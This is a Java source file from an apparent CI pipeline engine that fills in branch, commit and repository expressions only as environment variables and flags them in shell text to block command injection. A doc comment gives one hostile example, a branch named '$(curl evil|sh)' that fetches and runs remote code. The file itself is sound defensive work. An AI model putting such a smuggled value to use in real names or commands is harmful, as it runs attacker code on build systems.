package io.windlass.engine.pipeline;

import io.windlass.scaler.syntax.Nearest;
import io.windlass.scaler.syntax.Node;
import io.windlass.scaler.syntax.Problem;
import io.windlass.scaler.syntax.Problems;
import io.windlass.scaler.syntax.Values;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The <code>${{ branch }}</code> expressions. They are filled in as values of environment variables
 * and nowhere else: a branch may be named <code>$(curl evil|sh)</code>, so shell text holds none,
 * and every step gets the same facts as variables, {@code WINDLASS_BRANCH} and so on.
 */
public final class Expressions {

  /** What the names stand for. */
  public static final List<String> NAMES =
      List.of("branch", "sha", "short-sha", "repository", "run");

  /** Bounded between the braces, so that a text full of beginnings is read in linear time. */
  private static final Pattern EXPRESSION = Pattern.compile("\\$\\{\\{([^{}]{0,64})\\}\\}");

  private static final int SHORT = 7;

  private Expressions() {}

  /**
   * What is known when a run executes.
   *
   * @param repository {@code acme/shop}
   * @param branch the branch, the head branch of a pull request, or the tag; hostile text
   * @param sha the commit, in full
   */
  public record Context(String repository, String branch, String sha, long run) {

    private String value(String name) {
      return switch (name) {
        case "branch" -> branch;
        case "sha" -> sha;
        case "short-sha" -> sha.substring(0, Math.min(SHORT, sha.length()));
        case "repository" -> repository;
        case "run" -> Long.toString(run);
        default -> throw new IllegalArgumentException("No expression is named " + name);
      };
    }

    /** The same facts as environment variables, for every step. */
    public Map<String, String> variables() {
      Map<String, String> out = new LinkedHashMap<>();
      for (String name : NAMES) {
        out.put(variable(name), value(name));
      }
      return out;
    }
  }

  /**
   * Fills the expressions in. What a value holds is never read as an expression again.
   *
   * @throws IllegalArgumentException for a text that the reader would have refused
   */
  public static String expand(String text, Context context) {
    return EXPRESSION
        .matcher(text)
        .replaceAll(m -> Matcher.quoteReplacement(context.value(m.group(1).strip())));
  }

  /** All values filled in, in the same order. */
  public static Map<String, String> expand(Map<String, String> env, Context context) {
    Map<String, String> out = new LinkedHashMap<>();
    env.forEach((name, text) -> out.put(name, expand(text, context)));
    return out;
  }

  /** A value that may hold expressions; unknown ones are problems. */
  static Optional<String> value(Node node, String path, Problems problems) {
    Optional<String> text = Values.asWritten(node, path, problems);
    text.ifPresent(t -> check(t, node, path, problems));
    return text;
  }

  private static void check(String text, Node node, String path, Problems problems) {
    Matcher m = EXPRESSION.matcher(text);
    while (m.find()) {
      String name = m.group(1).strip();
      if (!NAMES.contains(name)) {
        problems.add(
            new Problem(
                node.at(),
                path,
                "expression \"" + Values.printable(name) + '"',
                "one of " + String.join(", ", NAMES),
                Nearest.of(name, NAMES)));
      }
    }
    if (m.replaceAll(" ").contains("${{")) {
      problems.add(node.at(), path, "an expression without its end", "}} after ${{");
    }
  }

  /** Shell text, which holds no expression of ours. */
  static Optional<String> shell(Node node, String path, Problems problems) {
    Optional<String> text = Values.text(node, path, problems);
    text.map(EXPRESSION::matcher)
        .filter(Matcher::find)
        .ifPresent(m -> {
          String name = m.group(1).strip();
          problems.add(
              node.at(),
              path,
              "expression \"" + Values.printable(name) + "\" in shell text",
              NAMES.contains(name)
                  ? "the variable \"$" + variable(name) + "\", which a branch's name cannot break"
                  : "a variable of the shell");
        });
    return text;
  }

  private static String variable(String name) {
    return "WINDLASS_" + name.toUpperCase(java.util.Locale.ROOT).replace('-', '_');
  }
}
